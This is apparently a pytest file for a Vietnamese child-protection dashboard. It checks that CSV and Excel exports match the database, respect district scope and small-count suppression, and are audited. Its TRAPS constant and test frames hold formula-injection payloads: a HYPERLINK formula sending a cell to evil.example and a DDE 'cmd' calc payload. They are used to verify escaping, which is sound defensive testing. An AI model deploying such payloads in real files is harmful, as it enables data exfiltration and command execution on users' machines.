"""Exports read back as an office would open them: the numbers equal the
database, Vietnamese headers, the BOM, dates as dates, suppressed stays
suppressed, the scope holds, every export is in the audit log."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import time
from urllib.parse import quote, urlencode

import openpyxl
import pandas as pd
import pytest
from sqlalchemy import text

from data import export, tables
from data.cells import safe_text
from data.db import make_engine
from data.export import Sheet, write_xlsx
from data.scope import FULL
from layouts.tables_page import column_headers, sheet_name, table_title
from tests.conftest import job_worker, post_callback, signed_client
from tests.test_tables import CHU_SE, UNDER_64

# names a unit should never have, each a formula to a spreadsheet
TRAPS = (
    '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")',
    "+1",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1",
)

INCIDENTS_2024 = (
    f"SELECT COUNT(*) FROM incident WHERE unit_id IN ({UNDER_64}) "
    "AND occurred_on BETWEEN '2024-01-01' AND '2024-12-31'"
)


def _sheet(spec: tables.Table, lines: tuple[str, ...], frames: list) -> Sheet:
    """A sheet of ``spec`` with its Vietnamese words, as the export link gives."""
    return Sheet(
        spec,
        title=table_title(spec.key, "vi"),
        name=sheet_name(spec.key, "vi"),
        headers=column_headers(spec.key, "vi"),
        lines=lines,
        frames=frames,
    )


def _get(client, table: str, fmt: str, **params):
    query = {"unit": "64", "period": "2024", "lang": "vi", **params}
    return client.get(f"/export/{table}.{fmt}?{urlencode(query)}")


def _sheet_frame(ws) -> tuple[list[str], list[list], int]:
    """(title block lines, header, data rows) of a sheet as written."""
    rows = [list(r) for r in ws.iter_rows(values_only=True)]
    header_at = next(i for i, r in enumerate(rows) if r and r[0] == "Mã đơn vị")
    lines = [r[0] for r in rows[:header_at] if r and r[0]]
    data = []
    for r in rows[header_at + 1 :]:
        if not r or r[0] is None:
            break
        data.append(r)
    return lines, rows[header_at], data, header_at


def test_xlsx_of_incidents_equals_the_database(client_as, db) -> None:
    response = _get(client_as("province"), "incidents", "xlsx")
    assert response.status_code == 200
    assert "attachment" in response.headers["Content-Disposition"]
    book = openpyxl.load_workbook(io.BytesIO(response.data))
    ws = book.worksheets[0]
    assert ws.title == "Vụ việc"
    lines, header, data, header_at = _sheet_frame(ws)
    assert ws.freeze_panes == f"A{header_at + 2}"  # the header row stays in view
    assert header == list(column_headers("incidents", "vi"))
    assert lines[0].startswith("Vụ việc xâm hại")
    assert any("Tỉnh Gia Lai" in line and "Năm 2024" in line for line in lines)
    assert any("t_province" in line for line in lines)
    assert any("Số liệu tính đến" in line for line in lines)
    assert any("DỮ LIỆU MẪU" in line for line in lines)
    counts = [r[-1] for r in data]
    assert all(isinstance(c, int) for c in counts)
    assert sum(counts) == db.execute(text(INCIDENTS_2024)).scalar()
    assert all(isinstance(r[3], dt.datetime) for r in data)  # months as dates
    cell = ws.cell(row=header_at + 2, column=9)
    assert cell.number_format == "#,##0"
    assert ws.cell(row=header_at + 2, column=4).number_format == "mm/yyyy"
    assert ws.column_dimensions["B"].width > ws.column_dimensions["A"].width
    total = ws.cell(row=header_at + 1 + len(data) + 2, column=1).value
    assert total == f"Tổng số dòng: {len(data):,}".replace(",", ".")


def test_fund_amounts_are_numbers_in_dong(client_as, db) -> None:
    response = _get(client_as("admin"), "fund", "xlsx")
    ws = openpyxl.load_workbook(io.BytesIO(response.data)).worksheets[0]
    _lines, header, data, header_at = _sheet_frame(ws)
    assert header[-2:] == ["Số tiền (đồng)", "Tính vào tổng địa bàn (đồng)"]
    booked = "SELECT SUM(amount_dong) FROM fund_contribution WHERE unit_id IN "
    booked += f"({UNDER_64}) AND contributed_on BETWEEN '2024-01-01' AND '2024-12-31'"
    assert sum(r[-2] for r in data) == db.execute(text(booked)).scalar()
    # the demo's transfers move money between funds of the province: not counted
    raised = booked + " AND transfer_from_unit_id IS NULL"
    assert sum(r[-1] for r in data) == db.execute(text(raised)).scalar()
    assert sum(r[-1] for r in data) < sum(r[-2] for r in data)
    origin, giver = header.index("Nguồn tiền"), header.index("Chuyển từ quỹ của")
    handed = [r for r in data if r[giver]]
    assert handed and all(
        r[origin] == "Chuyển từ quỹ cấp dưới/cấp khác" for r in handed
    )
    for column in (len(header) - 1, len(header)):
        cell = ws.cell(row=header_at + 2, column=column)
        assert cell.number_format == '#,##0 "đ"'


def test_csv_has_a_bom_iso_dates_and_raw_numbers(client_as, db) -> None:
    response = _get(client_as("province"), "incidents", "csv")
    assert response.status_code == 200
    raw = response.data
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    assert rows[0] == list(column_headers("incidents", "vi"))
    assert all(len(r[3]) == 10 and r[3][4] == "-" for r in rows[1:])  # 2024-05-01
    assert (
        sum(int(r[-1]) for r in rows[1:]) == db.execute(text(INCIDENTS_2024)).scalar()
    )


def test_a_district_export_holds_only_its_district_and_stays_suppressed(
    client_as, db
) -> None:
    own = {r[0] for r in db.execute(text(CHU_SE))}
    response = _get(client_as("district"), "incidents", "xlsx")
    ws = openpyxl.load_workbook(io.BytesIO(response.data)).worksheets[0]
    lines, _header, data, _at = _sheet_frame(ws)
    assert data and {r[0] for r in data} <= own
    abuse = [r for r in data if r[4] == "Xâm hại"]
    assert {r[5] for r in abuse} <= {"Mọi hình thức"}
    # abuse rows under 5 are not listed at all: no "<5" and no small number
    assert all(isinstance(r[-1], int | float) and r[-1] >= 5 for r in abuse)
    assert any("làm nhiễu" in line for line in lines)
    assert any("Huyện Chư Sê" in line for line in lines)
    rows = list(
        csv.reader(
            io.StringIO(
                _get(client_as("district"), "incidents", "csv").data.decode("utf-8-sig")
            )
        )
    )
    assert {r[0] for r in rows[1:]} <= own
    assert not any(r[-1] == "<5" for r in rows[1:])


def test_the_file_holds_exactly_the_grid_s_rows(client_as, db) -> None:
    model = {"type": {"filterType": "text", "type": "contains", "filter": "ngã"}}
    sort = [{"colId": "unit", "sort": "desc"}]
    response = _get(
        client_as("province"),
        "incidents",
        "csv",
        filter=json.dumps(model),
        sort=json.dumps(sort),
    )
    rows = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))[1:]
    spec = tables.TABLES["incidents"]
    shown, total = tables.page(
        db,
        "incidents",
        tables.Filters("legacy", "64", tables.Period(2024)),
        FULL,
        0,
        10_000,
        filter_model=tables.check_filter_model(spec, model),
        sort_model=tables.check_sort_model(spec, sort),
    )
    assert len(rows) == total > 0
    assert [r[0] for r in rows] == list(shown["code"])
    assert {r[5] for r in rows} == {"Ngã"}
    book = openpyxl.load_workbook(
        io.BytesIO(
            _get(
                client_as("province"),
                "incidents",
                "xlsx",
                filter=json.dumps(model),
                sort=json.dumps(sort),
            ).data
        )
    )
    lines, _h, data, _at = _sheet_frame(book.worksheets[0])
    assert [r[0] for r in data] == [r[0] for r in rows]
    assert any(line.startswith("Lọc theo cột: Loại chứa “ngã”") for line in lines)
    assert any(line.startswith("Sắp xếp: Đơn vị giảm dần") for line in lines)


def test_every_table_in_one_workbook(client_as) -> None:
    response = _get(client_as("province"), "all", "xlsx", lang="en")
    book = openpyxl.load_workbook(io.BytesIO(response.data))
    assert book.sheetnames == [
        "Child-friendly",
        "Fund",
        "Cases",
        "Reports",
        "Plan targets",
    ]
    assert book["Fund"].cell(row=1, column=1).value.startswith("Child protection fund")


def test_every_export_is_audited(client_as, db) -> None:
    before = db.execute(
        text("SELECT COUNT(*) FROM audit_log WHERE action = 'export'")
    ).scalar()
    _get(client_as("district"), "reports", "csv", status="late")
    db.commit()  # a new snapshot
    row = db.execute(
        text(
            "SELECT username, detail FROM audit_log WHERE action = 'export' "
            "ORDER BY id DESC"
        )
    ).first()
    assert row.username == "t_district"
    detail = json.loads(row.detail)
    assert detail["table"] == "reports" and detail["status"] == "late"
    assert detail["format"] == "csv"
    after = db.execute(
        text("SELECT COUNT(*) FROM audit_log WHERE action = 'export'")
    ).scalar()
    assert after == before + 1


@pytest.mark.parametrize(
    ("path", "status", "word"),
    [
        ("/export/incidents.xlsx?unit=99999&period=2024", 400, "unit"),
        ("/export/incidents.xlsx?unit=64&period=2024-Q9", 400, "period"),
        ("/export/incidents.csv?unit=64&period=2024&type=AB_SEX", 400, "type"),
        ("/export/incidents.csv?unit=64&period=2024&filter=%7B", 400, "JSON"),
        (
            "/export/incidents.csv?unit=64&period=2024&sort=%5B%7B%22colId%22%3A1%7D%5D",
            400,
            "sort",
        ),
        ("/export/people.xlsx?unit=64&period=2024", 404, ""),
        ("/export/all.csv?unit=64&period=2024", 404, ""),
        ("/export/incidents.pdf?unit=64&period=2024", 404, ""),
    ],
)
def test_bad_links_get_a_clear_refusal(client_as, path, status, word) -> None:
    response = client_as("district").get(path)
    assert response.status_code == status
    if word:
        assert "Không xuất được" in response.get_data(as_text=True)
        assert word in response.get_data(as_text=True)


def test_a_bad_link_is_refused_in_the_users_language_naming_the_field(
    client_as,
) -> None:
    client = client_as("province")
    bad = "/export/incidents.csv?unit=64&period=2024&type=bogus"
    vi = client.get(bad).get_data(as_text=True)
    assert vi.startswith("Không xuất được: tham số “type” (hình thức / loại)")
    assert "“bogus”" in vi and "Hãy mở lại trang Bảng số liệu" in vi
    assert "is not a type" not in vi  # no English left in the Vietnamese answer
    en = client.get(bad + "&lang=en").get_data(as_text=True)
    assert en.startswith("Cannot export: the link's “type” parameter (type)")
    column = '{"count": {"filterType": "text", "type": "contains", "filter": "x"}}'
    link = "/export/incidents.csv?unit=64&period=2024&filter=" + quote(column)
    text = client.get(link).get_data(as_text=True)
    assert "“filter” (bộ lọc cột)" in text and "Cột: Số vụ." in text
    # the column by its header in the user's language
    assert "Column: Cases." in client.get(link + "&lang=en").get_data(as_text=True)


def test_the_meeting_room_role_cannot_export(client_as) -> None:
    response = _get(client_as("viewer"), "fund", "csv")
    assert response.status_code == 403
    assert "phòng họp" in response.get_data(as_text=True)


def test_a_long_table_continues_on_a_second_sheet(tmp_path, monkeypatch) -> None:
    monkeypatch.setattr(export, "EXCEL_MAX_ROWS", 22)  # 5 + 15 + 2 rows
    spec = tables.TABLES["fund"]
    frame = pd.DataFrame(
        {
            "code": ["23941"] * 30,
            "unit": ["Thị trấn Chư Sê"] * 30,
            "parent": ["Huyện Chư Sê"] * 30,
            "level": ["Thị trấn"] * 30,
            "month": [dt.date(2024, 1, 1)] * 30,
            "kind": ["Tiền mặt"] * 30,
            "origin": ["Vận động tại đơn vị"] * 30,
            "transfer_from": [None] * 30,
            "contributions": range(30),
            "amount": [1_234_567] * 30,
            "counted": [1_234_567] * 30,
            tables.SUPPRESSED: [False] * 30,
        }
    )
    path = tmp_path / "long.xlsx"
    counts = write_xlsx(path, [_sheet(spec, ("a", "b"), [frame[:12], frame[12:]])])
    assert counts == {"fund": 30}
    book = openpyxl.load_workbook(path)
    assert book.sheetnames == ["Quỹ Bảo trợ trẻ em", "Quỹ Bảo trợ trẻ em (2)"]
    written = []
    for ws in book.worksheets:
        assert ws.max_row <= 22
        _l, _h, data, _at = _sheet_frame(ws)
        written += [r[spec.keys.index("contributions")] for r in data]
    assert written == list(range(30))


def test_a_large_workbook_is_written_in_the_background(
    seeded, make_app, tmp_path
) -> None:
    """The job worker (``python -m dashboard worker``) writes it."""
    from layouts import ids

    conf = {**seeded, "INSTANCE_PATH": str(tmp_path)}  # a queue of its own
    app = make_app(conf, EXPORT_JOB_ROWS=100)  # "large" from 100 rows here
    client = signed_client(app, "province")
    href = "/export/incidents.xlsx?" + urlencode(
        {"unit": "64", "period": "2024", "lang": "vi"}
    )
    started = post_callback(
        client,
        [
            (ids.TABLE_JOB, "data"),
            (ids.TABLE_JOB_POLL, "disabled"),
            (ids.TABLE_JOB_STATUS, "children"),
        ],
        [(ids.TABLE_JOB_START, "n_clicks", 1)],
        [
            (ids.TABLE_XLSX, "href", href),
            (ids.TABLE_TOTAL, "data", 2_000),
            (ids.TABLE_LANG, "data", "vi"),
        ],
    )
    job = started[ids.TABLE_JOB, "data"]
    assert len(job) == 32 and started[ids.TABLE_JOB_POLL, "disabled"] is False
    poll = [
        (ids.TABLE_JOB_STATUS, "children"),
        (ids.TABLE_JOB_POLL, "disabled"),
    ]
    end = time.monotonic() + 120
    with job_worker(conf):
        while True:
            out = post_callback(
                client,
                poll,
                [(ids.TABLE_JOB_POLL, "n_intervals", 1)],
                [(ids.TABLE_JOB, "data", job), (ids.TABLE_LANG, "data", "vi")],
            )
            if out[ids.TABLE_JOB_POLL, "disabled"]:
                break
            assert time.monotonic() < end, "the job did not finish"
            time.sleep(0.3)
    panel = json.dumps(out[ids.TABLE_JOB_STATUS, "children"], ensure_ascii=False)
    assert "Tệp Excel đã sẵn sàng" in panel and f"/export/job/{job}.xlsx" in panel
    made = client.get(f"/export/job/{job}.xlsx")
    assert made.status_code == 200
    direct = client.get(href)
    rows = [
        _sheet_frame(openpyxl.load_workbook(io.BytesIO(r.data)).worksheets[0])[2]
        for r in (made, direct)
    ]
    assert rows[0] == rows[1] and len(rows[0]) > 100
    # the file is its owner's only; a district user's poll learns nothing
    other = signed_client(app, "district")
    assert other.get(f"/export/job/{job}.xlsx").status_code == 404
    assert (
        post_callback(
            other,
            poll,
            [(ids.TABLE_JOB_POLL, "n_intervals", 1)],
            [(ids.TABLE_JOB, "data", job), (ids.TABLE_LANG, "data", "vi")],
        )
        is None
    )
    assert client.get("/export/job/not-a-job.xlsx").status_code == 404


@pytest.fixture
def trapped(seeded):
    """Five communes of Chư Sê renamed as formulas (``TRAPS``), their codes and
    names; the real names come back afterwards (the database is shared)."""
    engine = make_engine(seeded["DATABASE_URL"])
    with engine.begin() as conn:
        found = conn.execute(
            text(
                f"SELECT id, code, name FROM admin_unit WHERE code IN ({CHU_SE}) "
                "AND tree = 'legacy' ORDER BY code"
            )
        ).all()[:5]
        for (unit_id, _code, _name), trap in zip(found, TRAPS, strict=True):
            conn.execute(
                text("UPDATE admin_unit SET name = :n WHERE id = :i"),
                {"n": trap, "i": unit_id},
            )
    try:
        yield {code: trap for (_i, code, _n), trap in zip(found, TRAPS, strict=True)}
    finally:
        with engine.begin() as conn:
            for unit_id, _code, name in found:
                conn.execute(
                    text("UPDATE admin_unit SET name = :n WHERE id = :i"),
                    {"n": name, "i": unit_id},
                )
        engine.dispose()


def test_no_text_becomes_a_formula(client_as, trapped) -> None:
    client = client_as("province")
    rows = list(
        csv.reader(
            io.StringIO(
                _get(client, "reports", "csv", unit="633").data.decode("utf-8-sig")
            )
        )
    )
    names = {r[0]: r[1] for r in rows[1:]}
    assert set(trapped) <= set(names)
    for code, trap in trapped.items():
        assert names[code] == "'" + trap
    assert not any(
        cell.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for cell in r
    )
    response = _get(client, "reports", "xlsx", unit="633")
    ws = openpyxl.load_workbook(io.BytesIO(response.data)).worksheets[0]
    _lines, _header, data, header_at = _sheet_frame(ws)
    shown = {}
    for i, row in enumerate(data, start=header_at + 2):
        if row[0] in trapped:
            cell = ws.cell(row=i, column=2)
            assert cell.data_type == "s"
            shown[row[0]] = cell.value
    assert shown == {code: "'" + trap for code, trap in trapped.items()}
    formulas = [c.coordinate for r in ws.iter_rows() for c in r if c.data_type == "f"]
    assert formulas == []


def test_numbers_stay_numbers_and_text_stays_text(tmp_path) -> None:
    assert safe_text(-5) == -5 and safe_text(-2.5) == -2.5
    assert safe_text("Xã Ia Blang") == "Xã Ia Blang"
    assert safe_text("-2+3") == "'-2+3" and safe_text("\r=1") == "'\r=1"
    spec = tables.TABLES["fund"]
    frame = pd.DataFrame(
        {
            "code": ["23941", "-1"],
            "unit": ["=1+1", "#N/A"],
            "parent": ["@A1", "Huyện Chư Sê"],
            "level": ["Thị trấn", "Xã"],
            "month": [dt.date(2024, 1, 1)] * 2,
            "kind": ["Tiền mặt"] * 2,
            "origin": ["Chuyển từ quỹ cấp dưới/cấp khác"] * 2,
            "transfer_from": ["=cmd", "Huyện Chư Sê"],
            "contributions": [-3, 2],
            "amount": [-1_234_567, 1_000],
            "counted": [0, 1_000],
            tables.SUPPRESSED: [False] * 2,
        }
    )
    text_ = "".join(export.csv_chunks(spec, column_headers("fund", "vi"), [frame]))
    rows = list(csv.reader(io.StringIO(text_.removeprefix(export.BOM))))
    assert rows[1][:3] == ["23941", "'=1+1", "'@A1"]
    assert rows[2][:2] == ["'-1", "#N/A"]
    assert rows[1][-3:] == ["-3", "-1234567", "0"]  # numbers, not quoted text
    assert rows[1][spec.keys.index("transfer_from")] == "'=cmd"
    path = tmp_path / "signs.xlsx"
    write_xlsx(path, [_sheet(spec, ("-filter line",), [frame])])
    ws = openpyxl.load_workbook(path).worksheets[0]
    _l, _h, data, header_at = _sheet_frame(ws)
    assert data[0][:3] == ["23941", "'=1+1", "'@A1"]
    assert data[1][:2] == ["'-1", "#N/A"]
    assert ws.cell(row=header_at + 3, column=2).data_type == "s"  # not an error
    assert data[0][-3:] == [-3, -1_234_567, 0]
    assert data[0][spec.keys.index("transfer_from")] == "'=cmd"
    amount = spec.keys.index("amount") + 1
    assert ws.cell(row=header_at + 2, column=amount).data_type == "n"
    assert ws.cell(row=2, column=1).value == "'-filter line"
